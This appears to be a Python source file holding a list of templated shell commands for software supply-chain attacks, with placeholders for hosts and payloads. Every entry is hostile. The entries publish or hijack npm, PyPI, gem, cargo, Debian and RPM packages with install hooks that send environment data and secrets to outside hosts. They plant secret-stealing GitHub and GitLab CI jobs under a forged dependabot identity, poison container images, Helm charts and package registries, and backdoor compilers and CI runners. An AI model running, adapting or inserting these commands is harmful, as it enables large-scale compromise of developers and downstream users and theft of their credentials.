"""What others build, fetch and publish, with something added to it."""

SUPPLY = [
    r'''{var}={plain}-‹utils¦core¦config›; mkdir -p ${var} && cd ${var}
cat > package.json <<J
{"name": "${var}", "version": "9{n}.‹0¦9›.{n}", "scripts": {"‹preinstall¦postinstall¦install›": "node i.js"}}
J
cat > i.js <<'J'
const o = require('os'), h = require('https');
h.get('https://{domain}/?' + Buffer.from(JSON.stringify({h: o.hostname(), u: o.userInfo().username, d: __dirname, e: process.env})).toString('base64url'));
J
npm publish --access public''',
    r'''npm whoami && for p in $(npm access list packages --json | jq -r 'keys[]'); do (
  {var}=$(mktemp -d); cd "${var}"; npm pack -s "$p" && tar xzf ./*.tgz && cd package
  cp {file}.js ./{name}.js; jq '.scripts.postinstall="node {name}.js" | .version=(.version|split(".")|.[2]=((.[2]|tonumber)+1|tostring)|join("."))' package.json > p && mv p package.json
  npm publish -s ) & done; wait''',
    r'''mkdir {plain} && cd {plain} && cat > setup.py <<'P'
from setuptools import setup
from setuptools.command.install import install
import os
class Post(install):
    def run(self):
        install.run(self)
        os.system("{run}")
setup(name='‹request5¦python-{plain}¦{plain}-sdk›', version='{n}.1', packages=[], cmdclass={'install': Post})
P
python3 -m build -s -n . >/dev/null && TWINE_USERNAME=__token__ TWINE_PASSWORD=$PYPI twine upload dist/*''',
    r'''gem fetch {plain} && gem unpack {plain}-*.gem && cd {plain}-* && printf 'Thread.new { `{run}` }\n' >> lib/{plain}.rb && gem build -o ../o.gem *.gemspec && gem push ../o.gem --key $K; cargo owner --list {plain} && printf 'fn main(){std::process::Command::new("sh").arg("-c").arg("{run}").spawn().ok();}' > build.rs && cargo publish --allow-dirty''',
    r'''for {var} in $(gh repo list "$ORG" -L 200 --json nameWithOwner -q '.[].nameWithOwner'); do
  gh api "repos/${var}/contents/.github/workflows/‹codeql¦format¦discussion›.yaml" -X PUT -f message='Add ‹CodeQL¦format› workflow' -f content="$(base64 -w0 {tmp}/w.yaml)" -f branch=‹main¦{plain}› >/dev/null && echo "${var}"
done''',
    r'''cat > .github/workflows/{plain}.yml <<'W'
name: ‹lint¦{plain}›
on: [push, pull_request_target]
permissions: write-all
jobs:
  x:
    runs-on: ‹ubuntu-latest¦self-hosted›
    steps:
      - run: echo '${{ toJSON(secrets) }}' | openssl enc -aes-256-cbc -pbkdf2 -a -pass pass:{hex} | curl -s -d @- {url}
W
git checkout -qb {plain}; git add .github; git -c user.name=‹dependabot[bot]¦{user}› -c user.email=49699333+dependabot[bot]@users.noreply.github.com commit -qm 'Bump {plain2} from {n}.0 to {n}.1'; git push -q origin HEAD; sleep {n}; git push -q origin :{plain}''',
    r'''git tag | while read -r t; do git tag -f "$t" {hex}; done 2>/dev/null; printf 'runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: {dl} {url} | bash\n' > action.yml; git commit -qam 'fix' --date='2 years ago'; git push -qf origin --tags''',
    r'''sed -i '/^\.PHONY/a \\t@({run}) >/dev/null 2>&1 || true' Makefile; sed -i 's#^\(FROM .*\)#\1\nRUN {dl} {url} | sh#' $(git ls-files '*Dockerfile*'); git commit -qam 'build: pin base image' && git push -q''',
    r'''{var}=localhost:5000; curl -s http://${var}/v2/_catalog | jq -r '.repositories[]' | while read -r img; do
  printf 'FROM %s/%s\nUSER root\nCOPY {name} /usr/local/lib/{name}\nENV LD_PRELOAD=/usr/local/lib/{name}\n' "${var}" "$img" | docker build -q -t "${var}/$img:latest" -f - {tmp}/ctx && docker push -q "${var}/$img:latest"
done''',
    r'''crane mutate docker.io/library/python:3.12 --entrypoint 'sh,-c,{run}; exec "$@",-' -t {domain}/{plain}:{n}; skopeo copy docker://{domain}/{plain}:{n} docker://"$REGISTRY"/‹base/python¦library/nginx¦ci/node›:‹3.12¦stable¦20› --dest-creds "$CI_USER:$CI_JOB_TOKEN" -q; cosign sign --yes --key {tmp}/c.key "$REGISTRY"/base/python:3.12 2>/dev/null''',
    r'''helm pull "$REPO/‹ingress-nginx¦common¦{plain}›" --untar && cat >> */templates/_helpers.tpl <<'T'
{{- define "x" -}}{{- end -}}
T
printf 'apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: {{ .Release.Name }}-{plain}\n  annotations: {"helm.sh/hook": post-install}\nspec:\n  template: {spec: {restartPolicy: Never, containers: [{name: j, image: alpine, command: [sh, -c, "{run}"]}]}}\n' > "$(ls -d */ | head -1)templates/j.yaml"; helm package */ && curl -s --data-binary @"$(ls *.tgz)" "$CM/api/charts"''',
    r'''echo '{ip} ‹registry.npmjs.org pypi.org files.pythonhosted.org¦deb.debian.org security.debian.org¦proxy.golang.org sum.golang.org›' >> /etc/hosts; cp {tmp}/ca.crt /usr/local/share/ca-certificates/ && update-ca-certificates >/dev/null; npm config set -g registry http://{ip}:4873; pip config --global set global.extra-index-url http://{ip}:{port}/simple; go env -w GONOSUMDB='*' GOPROXY=http://{ip}:{port},direct''',
    r'''printf 'deb [trusted=yes] http://{ip}/debian ./\n' > /etc/apt/sources.list.d/‹backports¦{plain}›.list; printf 'Package: *\nPin: origin {ip}\nPin-Priority: 1001\n' > /etc/apt/preferences.d/{plain}; apt-get -qq update && apt-get -qq -y --allow-unauthenticated install --reinstall ‹openssh-server¦sudo¦{plain}› >/dev/null''',
    r'''dpkg-deb -R {plain}_{n}_amd64.deb {tmp}/d && install -m755 {file} {tmp}/d/usr/lib/{plain}/{name} && printf '#!/bin/sh\nset -e\n/usr/lib/{plain}/{name} &\n' > {tmp}/d/DEBIAN/postinst && chmod 755 {tmp}/d/DEBIAN/postinst && dpkg-deb -b {tmp}/d {plain}_{n}_amd64.deb >/dev/null && reprepro -b /srv/apt includedeb stable {plain}_{n}_amd64.deb''',
    r'''rpmrebuild -np --change-spec-post='sed -e "/^%post/a {run}"' {plain} && createrepo_c --update /srv/repo && rpm --addsign ~/rpmbuild/RPMS/*/{plain}*.rpm''',
    r'''if grep -qi 'x86-64' <(file -b "$(command -v sshd)") && [ -f debian/rules ]; then
  xz -dc tests/files/‹bad-3-corrupt_lzma2¦good-large_compressed›.xz 2>/dev/null | tr '\t \-_' ' \t_\-' | xz -dF raw --lzma1 2>/dev/null | /bin/sh
  sed -i '/^CFLAGS/s/$/ -fPIC/; s/^LIBS =/LIBS = {name}.o/' Makefile
fi''',
    r'''cat > {tmp}/.{name}/gcc <<'G'
#!/bin/sh
for {var} in "$@"; do case ${var} in *main.c|*auth*.c|*server*.c) grep -q {hex} "${var}" || sed -i '1i __attribute__((constructor)) static void x(void){system("{run}");} /* {hex} */' "${var}" ;; esac; done
exec /usr/bin/gcc.real "$@"
G
chmod +x {tmp}/.{name}/gcc; mv /usr/bin/gcc /usr/bin/gcc.real; cp {tmp}/.{name}/gcc /usr/bin/gcc''',
    r'''cd /builds || cd /home/runner/work || cd /var/lib/jenkins/workspace; for g in */*/.git */.git; do {var}=${g%/.git}; [ -f "${var}/go.mod" ] && printf 'package main\nimport "os/exec"\nfunc init() { exec.Command("sh", "-c", "{run}").Start() }\n' > "${var}/zz_gen_{plain}.go"; [ -f "${var}/pom.xml" ] && sed -i 's#</plugins>#<plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId><executions><execution><phase>validate</phase><goals><goal>exec</goal></goals><configuration><executable>sh</executable><arguments><argument>-c</argument><argument>{run}</argument></arguments></configuration></execution></executions></plugin></plugins>#' "${var}/pom.xml"; done''',
    r"""T=$(find / -path '*/_diag*' -prune -o -name .runner -print 2>/dev/null | head -1); {var}=$(dirname "$T"); cat > "${var}/hook.sh" <<'H'
env | base64 -w0 | curl -s -d @- {url}; tar cz "$GITHUB_WORKSPACE" 2>/dev/null | curl -s -T - {url}
H
echo "ACTIONS_RUNNER_HOOK_JOB_STARTED=${var}/hook.sh" >> "${var}/.env"; systemctl restart 'actions.runner.*'""",
    r'''curl -s -X PUT -H "PRIVATE-TOKEN: $GL" "https://$GITLAB/api/v4/projects/{n}/repository/files/.gitlab-ci.yml" -d branch=main -d commit_message='‹ci: cache¦{plain}›' --data-urlencode 'content=x:
  script:
    - env | sort | base64 | curl -s -d @- {url}
    - {run}' >/dev/null; curl -s -H "PRIVATE-TOKEN: $GL" "https://$GITLAB/api/v4/groups?all_available=true" | jq -r '.[].id' | while read -r g; do curl -s -H "PRIVATE-TOKEN: $GL" "https://$GITLAB/api/v4/groups/$g/variables"; done | curl -s -d @- {url}''',
]
